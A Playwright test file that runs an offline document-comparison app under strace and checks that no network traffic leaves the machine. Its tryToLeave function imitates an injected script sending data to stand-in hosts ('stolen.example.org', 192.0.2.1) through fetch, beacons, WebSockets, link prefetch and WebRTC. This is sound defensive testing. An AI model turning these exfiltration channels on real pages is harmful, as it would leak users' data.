import { rmSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { DEFAULT_SETTINGS } from "../shared/ipc/settings.ts";
import { ENGLISH_TEXT, GERMAN_DOCUMENT, VIETNAMESE_PAGE } from "./support/articles.ts";
import { dropFiles } from "./support/drop-files.ts";
import { openTracedWindow, whyNoTrace } from "./support/trace.ts";
import { expect, inspector, sampleIsReady, test } from "./support/workbench.ts";

/**
 * Chromium asks the kernel, before it opens any page, whether this machine has a way to the internet of IPv6, and for a
 * page's call to another machine by which of its own addresses it would go; no switch turns that off. It connects a socket
 * for datagrams to one of these and sends nothing.
 */
const ROUTE_QUESTIONS = ["2001:4860:4860::8888 443", "2001:4860:4860::8888 53", "8.8.8.8 53"];
/** Under a tracer, and with the rest of the tests beside it. */
const SLOWER = { timeout: 60_000 };
/** An address for documentation: nobody has it. */
const ELSEWHERE = "192.0.2.1";

test(
  "a whole journey under strace, launcher, host and browser: this machine and nothing else",
  { tag: "@thorough" },
  // Playwright reads a fixture's needs from this pattern: it needs none.
  // eslint-disable-next-line no-empty-pattern
  async ({}, about) => {
    test.slow();
    const why = whyNoTrace();
    test.skip(why !== null, why ?? "");
    const folder = mkdtempSync(join(tmpdir(), "parallax-traced-"));
    writeFileSync(
      join(folder, "settings.json"),
      JSON.stringify({ ...DEFAULT_SETTINGS, author: "Lan", language: "en" }),
    );
    const window = await openTracedWindow(folder, about.project.use.launchOptions!.executablePath!);
    try {
      await journey(window.page);
      await tryToLeave(window.page);
      const { destinations, routesAskedFor, datagrams } = await window.close();
      const elsewhere = (address: string) => !address.startsWith("127.0.0.1 ");
      expect(destinations.filter((address) => !elsewhere(address)).length, "the window's own host").toBeGreaterThan(0);
      expect(destinations.filter(elsewhere)).toEqual([]);
      expect(routesAskedFor.filter(elsewhere).filter((address) => !ROUTE_QUESTIONS.includes(address))).toEqual([]);
      expect(datagrams).toEqual([]);
    } finally {
      await window.end();
      rmSync(folder, { recursive: true, force: true });
    }
  },
);

/** The sample, its findings, a claim, a change taken back, search, settings, files of one's own. */
async function journey(page: Page): Promise<void> {
  await sampleIsReady(page);
  await page.keyboard.press("j");
  await page.keyboard.press("r");
  const form = inspector(page).getByRole("form", { name: "Record claim" });
  await form.getByRole("textbox", { name: "Statement" }).fill("https://example.org/ says so");
  await page.keyboard.press("Control+Enter");
  await expect(form).toBeHidden();
  await page.keyboard.press("Control+z");
  await page.keyboard.press("Control+Shift+f");
  await expect(page.getByRole("search").getByRole("textbox")).toBeFocused();
  await page.keyboard.insertText("yuan");
  await page.keyboard.press("Escape");
  await page.keyboard.press("Control+,");
  await expect(page.getByRole("dialog", { name: "Settings" })).toBeVisible();
  await page.keyboard.press("Escape");
  await dropFiles(page, [
    { name: "vi.html", mimeType: "text/html", buffer: Buffer.from(VIETNAMESE_PAGE) },
    { name: "de.docx", mimeType: "application/octet-stream", buffer: GERMAN_DOCUMENT },
    { name: "en.txt", mimeType: "text/plain", buffer: Buffer.from(ENGLISH_TEXT) },
  ]);
  const dialog = page.getByRole("dialog", { name: /Add 3/ });
  await expect(dialog.locator("tbody .tick")).toHaveCount(3, SLOWER);
  await dialog.getByRole("button", { name: "Align 3 versions" }).click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Quỹ Sáng kiến", SLOWER);
  await expect(page.locator("[data-pane=de] .view-line").filter({ hasText: "Tsinghua" }).first()).toBeVisible();
}

/** What a script would do that got into the page. */
async function tryToLeave(page: Page): Promise<void> {
  await page.evaluate(async (elsewhere) => {
    const addresses = [`//${elsewhere}/`, "//stolen.example.org/"];
    for (const address of addresses) {
      await fetch(`http:${address}`, { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon(`http:${address}`, "text");
      new Image().src = `http:${address}`;
      try {
        new WebSocket(`ws:${address}`);
        new EventSource(`http:${address}`);
      } catch {
        // Refused before it tried.
      }
      for (const rel of ["dns-prefetch", "preconnect", "prefetch", "stylesheet", "icon"]) {
        const link = document.createElement("link");
        Object.assign(link, { rel, href: `http:${address}` });
        document.head.append(link);
      }
      window.open(`http:${address}`);
    }
    const stun = [`stun:${elsewhere}:3478`, `turn:${elsewhere}:3478?transport=tcp`];
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun, username: "a", credential: "b" }] });
    peer.createDataChannel("text");
    const gathered = new Promise<void>((resolve) => {
      peer.onicegatheringstatechange = () => {
        if (peer.iceGatheringState === "complete") resolve();
      };
    });
    await peer.setLocalDescription(await peer.createOffer());
    await Promise.race([gathered, new Promise((resolve) => setTimeout(resolve, 5000))]);
  }, ELSEWHERE);
  await page.goto(`http://${ELSEWHERE}/`).catch(() => undefined);
}
